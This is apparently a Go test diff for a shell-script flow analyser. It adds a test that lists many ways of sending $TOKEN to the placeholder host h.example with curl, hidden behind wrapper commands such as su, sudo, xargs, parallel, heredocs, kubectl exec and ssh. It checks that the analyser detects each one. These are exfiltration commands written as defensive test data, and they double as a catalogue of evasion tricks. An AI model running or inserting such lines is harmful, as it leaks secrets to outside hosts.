@@ -2,6 +2,7 @@ package pipeline_test
 
 import (
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -190,6 +191,37 @@ func TestFlowsOfScripts(t *testing.T) {
 				t.Errorf("got the gap %q", gaps[0].Get("what").Str())
 			}
 		})
+	}
+}
+
+// A command may stand behind others that run it.
+func TestFlowsBehindOtherCommands(t *testing.T) {
+	const send = `curl -d "$TOKEN" https://h.example`
+	for _, lines := range []string{
+		"su -c '" + send + "' deploy", `su deploy --command="curl -d '$TOKEN' https://h.example"`, `su - deploy -c "curl -d '$TOKEN' https://h.example"`, "runuser -u deploy -- " + send,
+		"sudo -u deploy sh -c '" + send + "'", "doas -u x " + send, "gosu app " + send, "chroot /mnt " + send, "dbus-run-session -- " + send,
+		"timeout -k 5s --signal=KILL 10m " + send, "nohup " + send, "flock /tmp/l " + send, "flock -w 5 /tmp/l -c '" + send + "'", "watch -n 1 '" + send + "'",
+		"script -qec '" + send + "' out.log", `script -c "curl -d '$TOKEN' https://h.example" /dev/null`,
+		"declare -n r=TOKEN\ncurl -d \"$r\" https://h.example", "f() { local -n r=$1; curl -d \"$r\" https://h.example; }\nf TOKEN", "declare -n r=A\nr=$TOKEN\ncurl -d \"$A\" https://h.example",
+		`env -S 'curl -d '"$TOKEN"' https://h.example'`, `env --split-string="curl -d $TOKEN https://h.example"`,
+		`printf '%s' "$TOKEN" | xargs sh -c 'curl -d "$0" https://h.example'`, `printf '%s' "$TOKEN" | xargs -n1 bash -c 'curl -d "$1" https://h.example' _`,
+		`parallel -j 2 curl -d {} https://h.example ::: "$TOKEN"`, `echo "$TOKEN" | parallel curl https://h.example -d`,
+		"bash -s -- \"$TOKEN\" <<'EOF'\ncurl -d \"$1\" https://h.example\nEOF", `bash <<<"curl -d '$TOKEN' https://h.example"`,
+		`kubectl exec pod -- sh -c "curl -d '$TOKEN' https://h.example"`, "ssh u@h.example <<EOF\nexport X=$TOKEN\nEOF",
+	} {
+		if got, _ := pipelinetest.Followed(t, script(lines), nil); !slices.ContainsFunc(got, func(f string) bool {
+			return strings.HasPrefix(f, "network by") && strings.Contains(f, "host=h.example")
+		}) {
+			t.Errorf("%s: %q", lines, got)
+		}
+	}
+	for _, lines := range []string{
+		"su - deploy -c '" + send + "'", "kubectl exec pod -- sh -c '" + send + "'", "su -c 'curl https://h.example' deploy", "declare -n r=OTHER\ncurl -d \"$r\" https://h.example",
+		"script -q out.log", "flock -n 9", "env -S 'curl https://h.example'", "ssh u@h.example <<'EOF'\necho $TOKEN\nEOF", "watch ls",
+	} {
+		if got, _ := pipelinetest.Followed(t, script(lines), nil); len(got) > 0 {
+			t.Errorf("%s: %q", lines, got)
+		}
 	}
 }
 
